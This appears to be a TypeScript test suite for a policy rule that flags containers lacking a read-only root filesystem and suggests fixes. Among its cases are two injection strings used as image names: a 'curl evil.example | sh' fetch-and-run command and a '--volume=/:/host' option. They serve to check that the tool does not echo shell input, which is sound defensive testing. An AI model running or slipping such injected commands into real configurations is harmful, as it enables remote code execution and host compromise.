import { readOnlyRoot } from "../../policies/rules/read-only-root";
import { secret, unknown } from "../../policies/testing";
import { container, deployment, pod, service } from "../support/resources";
import { testRule } from "../support/rule-table";

const writable = (path: string, note = "") =>
  `container "web" has a writable root filesystem; set ${path} to true${note}`;
const flag = "spec.containers[0].securityContext.readOnlyRootFilesystem";
const one = (securityContext: unknown, rest: object = {}) =>
  pod({ containers: [{ name: "web", securityContext }], ...rest });
const cured = (rest: object = {}, security: object = {}) =>
  one({ ...security, readOnlyRootFilesystem: true }, rest).props;

const mirrored = `registry.example:5000/team/web:2@sha256:${"0123456789abcdef".repeat(4)}`;

const ofSomebody = (image: string, command: string) =>
  `the catalogue does not know what the program in ${image} writes: npx @readonly-rootfs/cli discover ${command} what the container runs`;

testRule(readOnlyRoot, {
  valid: {
    "a process of a Windows host, which no-read-only-bypass refuses": pod({
      os: { name: "windows" },
      containers: [{ name: "web", image: "x", securityContext: { windowsOptions: { hostProcess: true } } }],
    }),
    "a Windows pod that mounts a place of its host": pod({
      os: { name: "windows" },
      containers: [{ name: "web", image: "x", volumeMounts: [{ name: "h", mountPath: "C:\\h" }] }],
      volumes: [{ name: "h", hostPath: { path: "C:\\k" } }],
    }),
    "the flag set to true": one({ readOnlyRootFilesystem: true }),
    "a secret true": one({ readOnlyRootFilesystem: secret(true) }),
    "an unknown image beside the flag": pod({
      containers: [{ name: "web", image: unknown, securityContext: { readOnlyRootFilesystem: true } }],
    }),
    "a pod without containers": pod({ containers: [] }),
    "a patch that does not mention it": {
      type: "kubernetes:apps/v1:DeploymentPatch",
      props: { spec: { template: { spec: { containers: [{ name: "web", image: "nginx:2" }] } } } },
    },
  },
  invalid: {
    "an image whose writes its configuration decides": {
      given: container({ image: "haproxy:3.2" }),
      says: [
        'container "web" has a writable root filesystem; set readOnly to true; whether haproxy:3.2 also writes to /var/lib/haproxy (when haproxy.cfg names a stats socket, a pid file or a server state file there) depends on its configuration',
      ],
      cured: container({ image: "haproxy:3.2", readOnly: true }).props,
    },
    "an image whose possible writes go to a mount": {
      given: container({ image: "haproxy:3.2", tmpfs: { "/var/lib/haproxy": "size=1m" } }),
      says: ['container "web" has a writable root filesystem; set readOnly to true'],
      cured: container({ image: "haproxy:3.2", tmpfs: { "/var/lib/haproxy": "size=1m" }, readOnly: true }).props,
    },
    "an image that writes among its own files, which memory would hide": {
      given: container({ image: "kong:3.9" }),
      says: [
        'container "web" has a writable root filesystem; set readOnly to true; kong:3.9 also needs a tmpfs at /tmp and a writable copy of what the image has at /usr/local/kong',
      ],
      cured: null,
    },
    "an image that runs programs from where it writes": {
      given: container({
        image: "lscr.io/linuxserver/sonarr:4.0.19",
        volumes: [{ containerPath: "/config", volumeName: "c" }],
      }),
      says: [
        'container "web" has a writable root filesystem; set readOnly to true; linuxserver/sonarr:4.0.19 also needs a tmpfs with exec at /run; a read-only root takes effort with linuxserver/sonarr:4.0.19: only the images whose documentation says so support it, without mods, custom services and UMASK',
      ],
      cured: container({
        image: "lscr.io/linuxserver/sonarr:4.0.19",
        volumes: [{ containerPath: "/config", volumeName: "c" }],
        readOnly: true,
      }).props,
    },
    "an image that runs programs from where it writes, in a service, where a tmpfs lets none run": {
      given: service({ image: "jenkins/jenkins:lts" }),
      says: [
        'service "web" has a writable root filesystem; set taskSpec.containerSpec.readOnly to true; jenkins/jenkins:lts also needs a named volume at /tmp',
      ],
      cured: null,
    },
    "an image that writes into one of its own files, in a pod": {
      given: pod({ containers: [{ name: "web", image: "dpage/pgadmin4:9" }] }),
      says: [
        `container "web" has a writable root filesystem; set ${flag} to true; dpage/pgadmin4:9 also needs an emptyDir at /tmp, a writable copy of what the image has at /pgadmin4/config_distro.py and a persistent volume claim at /var/lib/pgadmin; a read-only root takes effort with dpage/pgadmin4:9: the entrypoint writes a settings file into a directory full of the application's files`,
      ],
      cured: null,
    },
    "an image that does not run as it is started here": {
      given: container({ image: "quay.io/keycloak/keycloak:26.4", command: ["start"], tmpfs: { "/tmp": "" } }),
      says: [
        'container "web" has a writable root filesystem; set readOnly to true; keycloak/keycloak:26.4 also needs a tmpfs at /opt/keycloak/data/tmp and /opt/keycloak/data/transaction-logs and a writable copy of what the image has at /opt/keycloak/lib/quarkus; keycloak/keycloak:26.4 does not run with a read-only root: without --optimized, and an image in which kc.sh build has run, it writes its build at start',
      ],
      cured: null,
    },
    "an image for which a read-only root is not recommended": {
      given: container({
        image: "bitnami/moodle:5.0",
        volumes: ["/bitnami/moodle", "/bitnami/moodledata"].map((containerPath) => ({
          containerPath,
          volumeName: "m",
        })),
      }),
      says: [
        'container "web" has a writable root filesystem; set readOnly to true; a read-only root is not recommended with bitnami/moodle:5.0: its start script replaces parts of /opt/bitnami/moodle by links; its chart leaves the root writable',
      ],
      cured: null,
    },
    "an image that lacks a setting without which it does not start": {
      given: container({
        image: "hashicorp/vault:1.19",
        command: ["server"],
        volumes: [{ containerPath: "/vault/file", volumeName: "v" }],
      }),
      says: [
        'container "web" has a writable root filesystem; set readOnly to true; set SKIP_SETCAP to true, without which hashicorp/vault:1.19 does not start then',
      ],
      cured: null,
    },
    "an image that runs a program of somebody else": {
      given: container({ image: "node:22", command: ["node", "server.js"] }),
      says: [
        `container "web" has a writable root filesystem; set readOnly to true; ${ofSomebody("node:22", "node:22 -- COMMAND finds out, where COMMAND is")}`,
      ],
      cured: container({ image: "node:22", command: ["node", "server.js"], readOnly: true }).props,
    },
    "an image of a language that runs another program": {
      given: container({ image: "python:3.13", entrypoints: ["/app/serve"] }),
      says: [
        `container "web" has a writable root filesystem; set readOnly to true; ${ofSomebody("python:3.13", "--entrypoint PROGRAM python:3.13 finds out, where PROGRAM is")}`,
      ],
      cured: container({ image: "python:3.13", entrypoints: ["/app/serve"], readOnly: true }).props,
    },
    "a container whose image has the name of Windows, which any image can be given": {
      given: container({ image: "mcr.microsoft.com/windows/nanoserver:ltsc2022" }),
      says: [
        'container "web" has a writable root filesystem; set readOnly to true; the catalogue does not know what windows/nanoserver:ltsc2022 writes: npx @readonly-rootfs/cli discover mcr.microsoft.com/windows/nanoserver:ltsc2022 finds out',
      ],
      cured: container({ image: "mcr.microsoft.com/windows/nanoserver:ltsc2022", readOnly: true }).props,
    },
    "a service on nodes with Linux and nodes with Windows": {
      given: service({}, { placement: { platforms: [{ os: "linux" }, { os: "windows" }] } }),
      says: [
        'service "web" has a writable root filesystem; set taskSpec.containerSpec.readOnly to true; the catalogue does not know what example writes: npx @readonly-rootfs/cli discover example finds out',
      ],
      cured: service({ readOnly: true }, { placement: { platforms: [{ os: "linux" }, { os: "windows" }] } }).props,
    },
    "no securityContext": { given: pod({ containers: [{ name: "web" }] }), says: [writable(flag)], cured: cured() },
    "an absent flag": { given: one({ runAsUser: 33 }), says: [writable(flag)], cured: cured({}, { runAsUser: 33 }) },
    false: { given: one({ readOnlyRootFilesystem: false }), says: [writable(flag)], cured: cured() },
    "null in the flag": { given: one({ readOnlyRootFilesystem: null }), says: [writable(flag)], cured: cured() },
    "null in the securityContext": { given: one(null), says: [writable(flag)], cured: cured() },
    "a secret false, which stays secret": {
      given: one({ readOnlyRootFilesystem: secret(false) }),
      says: [writable(flag)],
      cured: one({ readOnlyRootFilesystem: secret(true) }).props,
    },
    'the string "true"': {
      given: one({ readOnlyRootFilesystem: "true" }),
      says: [writable(flag, "; a string has no effect there")],
      cured: cured(),
    },
    "a number": {
      given: one({ readOnlyRootFilesystem: 1 }),
      says: [writable(flag, "; a number has no effect there")],
      cured: cured(),
    },
    "a securityContext that is no object": { given: one("strict"), says: [writable(flag)], cured: null },
    "an unknown flag": {
      given: one({ readOnlyRootFilesystem: unknown }),
      says: [`advisory: container "web" cannot be judged until ${flag} is known`],
      cured: null,
    },
    "the flag on the pod": {
      given: one(undefined, { securityContext: { readOnlyRootFilesystem: true } }),
      says: [writable(flag, "; spec.securityContext.readOnlyRootFilesystem has no effect")],
      cured: cured({ securityContext: { readOnlyRootFilesystem: true } }),
    },
    "files to upload, which Docker would refuse, so that nothing is cured": {
      given: container({ uploads: [{ file: "/etc/app.conf", content: secret("password=hunter2") }] }),
      says: [
        'container "web" has a writable root filesystem; set readOnly to true' +
          "; remove uploads and mount the files from the host, or put them into the image" +
          "; the catalogue does not know what example writes: npx @readonly-rootfs/cli discover example finds out",
      ],
      cured: null,
    },
    "files to upload that are not known, so that nothing is cured yet": {
      given: container({ uploads: unknown }),
      says: [
        writable(
          "readOnly",
          "; the catalogue does not know what example writes: npx @readonly-rootfs/cli discover example finds out",
        ),
      ],
      cured: null,
    },
    "an empty list of files to upload": {
      given: container({ uploads: [] }),
      says: [
        writable(
          "readOnly",
          "; the catalogue does not know what example writes: npx @readonly-rootfs/cli discover example finds out",
        ),
      ],
      cured: container({ uploads: [], readOnly: true }).props,
    },
    "a misspelt key": {
      given: one({ readOnlyRootFileSystem: true }),
      says: [writable(flag, "; spec.containers[0].securityContext.readOnlyRootFileSystem has no effect")],
      cured: cured({}, { readOnlyRootFileSystem: true }),
    },
    "one bad container of five, in every role": {
      given: deployment({
        initContainers: [
          { name: "migrate" },
          { name: "proxy", restartPolicy: "Always", securityContext: { readOnlyRootFilesystem: true } },
        ],
        containers: [
          { name: "web", securityContext: { readOnlyRootFilesystem: true } },
          { name: "log", securityContext: { readOnlyRootFilesystem: unknown } },
        ],
        ephemeralContainers: [{ name: "debug", securityContext: { readOnlyRootFilesystem: true } }],
      }),
      says: [
        'init container "migrate" has a writable root filesystem; set ' +
          "spec.template.spec.initContainers[0].securityContext.readOnlyRootFilesystem to true",
        'advisory: container "log" cannot be judged until ' +
          "spec.template.spec.containers[1].securityContext.readOnlyRootFilesystem is known",
      ],
      cured: deployment({
        initContainers: [
          { name: "migrate", securityContext: { readOnlyRootFilesystem: true } },
          { name: "proxy", restartPolicy: "Always", securityContext: { readOnlyRootFilesystem: true } },
        ],
        containers: [
          { name: "web", securityContext: { readOnlyRootFilesystem: true } },
          { name: "log", securityContext: { readOnlyRootFilesystem: unknown } },
        ],
        ephemeralContainers: [{ name: "debug", securityContext: { readOnlyRootFilesystem: true } }],
      }).props,
      left: [
        'advisory: container "log" cannot be judged until ' +
          "spec.template.spec.containers[1].securityContext.readOnlyRootFilesystem is known",
      ],
    },
    "an image from a mirror, which needs paths as well": {
      given: container({ image: "mirror.example/hub/wordpress", tmpfs: { "/tmp": "" } }),
      config: { mirrors: ["mirror.example/hub"] },
      says: [writable("readOnly", "; hub/wordpress also needs a tmpfs at /run/apache2 and /run/lock/apache2")],
      cured: container({ image: "mirror.example/hub/wordpress", tmpfs: { "/tmp": "" }, readOnly: true }).props,
    },
    "a client with the image of a database, which needs no paths": {
      given: container({ image: "mysql:8.4", command: ["mysqldump"] }),
      says: [writable("readOnly")],
      cured: container({ image: "mysql:8.4", command: ["mysqldump"], readOnly: true }).props,
    },
    "an image by id, which names no repository to look up": {
      given: container({ image: `sha256:${"a".repeat(64)}` }),
      says: [
        writable("readOnly"),
        'advisory: container "web" has its image by id, so the paths that it writes could not be looked up; ' +
          "set image to the image's name, or to repoDigest of its RemoteImage",
      ],
      cured: container({ image: `sha256:${"a".repeat(64)}`, readOnly: true }).props,
    },
    "an image that nobody knows, with the command that finds out, which has the image as it is written": {
      given: container({ image: mirrored }),
      says: [
        writable(
          "readOnly",
          `; the catalogue does not know what team/web:2 writes: npx @readonly-rootfs/cli discover ${mirrored} finds out`,
        ),
      ],
      cured: container({ image: mirrored, readOnly: true }).props,
    },
    "an image that is secret, which no command repeats": {
      given: container({ image: secret(mirrored) }),
      says: [writable("readOnly")],
      cured: container({ image: secret(mirrored), readOnly: true }).props,
    },
    "a text with words of a shell for an image, which no command repeats": {
      given: container({ image: "web:2; curl evil.example | sh" }),
      says: [writable("readOnly")],
      cured: container({ image: "web:2; curl evil.example | sh", readOnly: true }).props,
    },
    "an option for an image, which no command repeats": {
      given: container({ image: "--volume=/:/host" }),
      says: [writable("readOnly")],
      cured: container({ image: "--volume=/:/host", readOnly: true }).props,
    },
    "secrets and unknowns beside it, which stay": {
      given: container({ envs: [secret("PASSWORD=hunter2"), unknown], readOnly: false }),
      says: [
        writable(
          "readOnly",
          "; the catalogue does not know what example writes: npx @readonly-rootfs/cli discover example finds out",
        ),
      ],
      cured: container({ envs: [secret("PASSWORD=hunter2"), unknown], readOnly: true }).props,
    },
  },
  notApplicable: {
    "another resource": {
      given: { type: "kubernetes:core/v1:ConfigMap", props: { data: { containers: "x" } } },
      because: "kubernetes:core/v1:ConfigMap declares no containers",
    },
    "another provider": {
      given: { type: "aws:s3/bucket:Bucket", props: {} },
      because: "aws:s3/bucket:Bucket declares no containers",
    },
    "a Windows pod": {
      given: one({}, { os: { name: "windows" } }),
      because: "a Windows pod cannot have a read-only root filesystem",
    },
    "a pod that is bound to Windows nodes": {
      given: one({}, { nodeSelector: { "kubernetes.io/os": "windows" } }),
      because: "a Windows pod cannot have a read-only root filesystem",
    },
    ...Object.fromEntries(
      Object.entries({
        "a container for Windows": container({ platform: "windows/amd64" }),
        "a service on nodes with Windows": service({}, { placement: { platforms: [{ os: "windows" }] } }),
      }).map(([name, given]) => [
        name,
        { given, because: "a Windows container cannot have a read-only root filesystem" },
      ]),
    ),
    "a Helm release": {
      given: { type: "kubernetes:helm.sh/v3:Release", props: { chart: "wordpress" } },
      because: "the provider renders its chart",
    },
  },
});
